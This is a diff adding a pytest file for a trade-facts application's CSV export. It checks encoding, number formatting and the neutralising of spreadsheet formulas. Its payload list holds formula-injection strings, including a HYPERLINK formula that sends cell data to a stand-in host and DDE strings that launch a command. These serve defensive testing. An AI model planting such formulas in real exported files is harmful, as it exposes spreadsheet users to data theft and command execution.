@@ -1,0 +1,56 @@
+"""The facts CSV as a spreadsheet reads it: encoding, header, numbers, flags and no formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from app.analysis.spreadsheet import cell, neutralise, to_text
+from app.cli import main
+from tests.conftest import SEEDS
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A2, "Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_formula_like_cells_are_neutralised(payload: str) -> None:
+    assert neutralise(payload) == "'" + payload
+    text = to_text(["sentence"], [{"sentence": payload}])
+    row = next(iter(csv.DictReader(io.StringIO(text.lstrip("\ufeff")))))
+    assert row["sentence"] == "'" + payload
+
+
+def test_numbers_stay_numbers() -> None:
+    assert neutralise("-3.5") == "-3.5"
+    assert cell("year", 2019.0) == "2019"
+    assert cell("value_usd", 6.275e9) == "6275000000"
+    assert cell("percent", -12.5) == "-12.5"
+    assert cell("flags", ["implausible: x", "inconsistent: y"]) == "implausible: x; inconsistent: y"
+    assert cell("derived_from", []) == ""
+    assert cell("derived", False) == "false"
+
+
+def test_facts_csv_opens_as_a_spreadsheet_would(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
+    db = f"sqlite:///{tmp_path / 'cli.sqlite'}"
+    main(["ingest", "--db", db, str(SEEDS)])
+    capsysbinary.readouterr()
+    assert main(["facts", "--db", db, "--pair", "VNM-MEX", "--kind", "trade_total", "--format", "csv"]) == 0
+    raw = capsysbinary.readouterr().out
+    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw  # Excel needs the BOM to read UTF-8
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    by_year = {(r["year"], r["derived"]): r for r in rows}
+    assert by_year[("2019", "false")]["value_usd"] == "6275000000"
+    assert by_year[("1993", "false")]["flags"].startswith("implausible: 1,400× below the trend")
+    assert by_year[("2024", "false")]["source"] == "Viet Nam News, 2025-05-20"  # not a hashed file name
+    assert "article_title" not in rows[0]
